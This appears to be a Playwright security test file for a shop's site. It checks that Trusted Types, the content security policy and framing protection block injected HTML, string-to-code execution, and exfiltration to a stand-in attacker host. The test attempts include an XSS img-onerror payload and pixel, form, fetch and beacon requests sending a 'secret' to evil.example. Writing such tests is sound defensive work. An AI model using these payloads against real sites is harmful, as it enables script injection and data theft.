// What the shop's pages refuse to a script that found its way in, and to a page that wants to frame them.
import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures.ts";

type Attempts = Record<string, () => unknown>;
type TrustedTypes = { createPolicy(name: string, rules: object): unknown };

/** Tries everything inside the page; what came of each attempt: "done", or the kind of error. */
function tryAll(page: Page): Promise<Record<string, string>> {
  return page.evaluate(() => {
    const { trustedTypes } = window as unknown as { trustedTypes: TrustedTypes };
    const attempts: Attempts = {
      "HTML written as text": () => Object.assign(document.body, { innerHTML: "<img src=x onerror=alert(1)>" }),
      "HTML beside an element": () => document.body.insertAdjacentHTML("beforeend", "<b>a</b>"),
      "a document parsed from text": () => new DOMParser().parseFromString("<b>a</b>", "text/html"),
      "text run as code": () => window.setTimeout("window.ran = true"),
      "a script with text": () => Object.assign(document.createElement("script"), { text: "window.ran = true" }),
      "a script from elsewhere": () => Object.assign(document.createElement("script"), { src: "https://evil.example" }),
      "a policy of one's own": () => trustedTypes.createPolicy("evil", { createHTML: (text: string) => text }),
      "a frame with its own text": () => Object.assign(document.createElement("iframe"), { srcdoc: "<b>a</b>" }),
    };
    const outcome = (attempt: () => unknown): string => {
      try {
        attempt();
        return "done";
      } catch (error) {
        return (error as Error).name;
      }
    };
    return Object.fromEntries(Object.entries(attempts).map(([name, attempt]) => [name, outcome(attempt)]));
  });
}

test("Anna's page makes neither HTML nor code of text, whoever asks it to", async ({ browser, shop }) => {
  // A page outside the fixtures' context: these violations are meant.
  const page = await browser.newPage({ baseURL: shop.facts.url });
  await page.goto("/products");
  const outcomes = await tryAll(page);
  expect(Object.keys(outcomes).length).toBe(8);
  for (const [attempt, outcome] of Object.entries(outcomes)) {
    expect(outcome, attempt).toBe("TypeError");
  }
  await page.close();
});

test("Anna's page loads and sends nothing elsewhere, and runs no element that was slipped in", async ({
  browser,
  shop,
}) => {
  const page = await browser.newPage({ baseURL: shop.facts.url });
  await page.goto("/");
  const forbidden = await page.evaluate(async () => {
    const found: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
    const button = document.createElement("button");
    button.setAttribute("class", "slipped-in");
    const picture = new Image();
    picture.src = "https://evil.example/pixel.png?told=secret";
    const form = document.createElement("form");
    form.action = "https://evil.example/take";
    form.method = "post";
    document.body.append(button, picture, form);
    form.submit();
    await fetch("https://evil.example/take").catch(() => undefined);
    navigator.sendBeacon("https://evil.example/take", "secret");
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(base);
    await new Promise((done) => setTimeout(done, 100));
    return found;
  });
  expect(new Set(forbidden)).toEqual(new Set(["img-src", "form-action", "connect-src", "base-uri"]));
  await page.close();
});

test("a page of somebody else's cannot frame the shop", async ({ browser, shop }) => {
  const page = await browser.newPage();
  await page.route("https://evil.example/", (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="${shop.facts.url}/sign-in"></iframe>` }),
  );
  await page.goto("https://evil.example/");
  const frame = page.frames()[1];
  await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
  await page.close();
});
